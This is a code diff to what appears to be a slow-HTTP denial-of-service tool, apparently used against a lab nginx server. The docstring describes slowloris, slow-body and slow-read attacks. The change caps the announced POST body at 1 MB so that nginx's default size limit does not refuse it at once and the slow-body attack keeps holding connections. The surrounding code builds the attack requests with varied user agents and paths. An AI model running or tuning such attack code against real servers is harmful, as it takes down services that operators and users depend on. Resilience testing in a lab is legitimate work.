@@ -12,8 +12,10 @@ has the behaviour taught by another.
 
 slow headers: slowloris: a request whose header never ends, one more
 header line of --chunk bytes every --interval seconds per connection.
-slow body: a POST announcing a large body, --chunk bytes of it every
---interval seconds. slow read: a large file requested and read --chunk
+slow body: a POST announcing a large body (10 KB to 1 MB: a server
+answers a larger one at once with 413, as the lab's nginx does with its
+default client_max_body_size, and that is no slow attack), --chunk bytes
+of it every --interval seconds. slow read: a large file requested and read --chunk
 bytes every --interval seconds through a receive buffer of --rcvbuf bytes
 (a small TCP window). Connections open at --rate a second up to --conns;
 one the server closes is opened again.
@@ -52,6 +54,9 @@ AGENTS = [
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_4) AppleWebKit/605.1.15 Version/16.5 Safari/605.1.15",
     "python-urllib/3.11", "Java/17.0.8", "libwww-perl/6.68",
 ]
+# the largest body a server takes without a word (nginx's default
+# client_max_body_size, 1 MB): a slow body announcing more is refused at once
+BODY_MAX = 1 << 20
 PATHS = ["/", "/index.html", "/news.html", "/docs/", "/robots.txt", "/f/1k", "/f/4k", "/f/16k",
          "/missing.html"]
 
@@ -97,7 +102,7 @@ class Slow:
             return f"GET {self.path}{q} HTTP/1.1\r\n{head}Accept-Language: en-US,en;q=0.{r.randint(1, 9)}\r\n"
         if self.a.mode == "body":
             return (f"POST {self.path}{q} HTTP/1.1\r\n{head}Content-Type: application/x-www-form-"
-                    f"urlencoded\r\nContent-Length: {r.randint(10000, 100000000)}\r\n\r\n")
+                    f"urlencoded\r\nContent-Length: {r.randint(10000, BODY_MAX)}\r\n\r\n")
         return f"GET {self.path} HTTP/1.1\r\n{head}Accept: */*\r\n\r\n"
 
     def step(self, s):
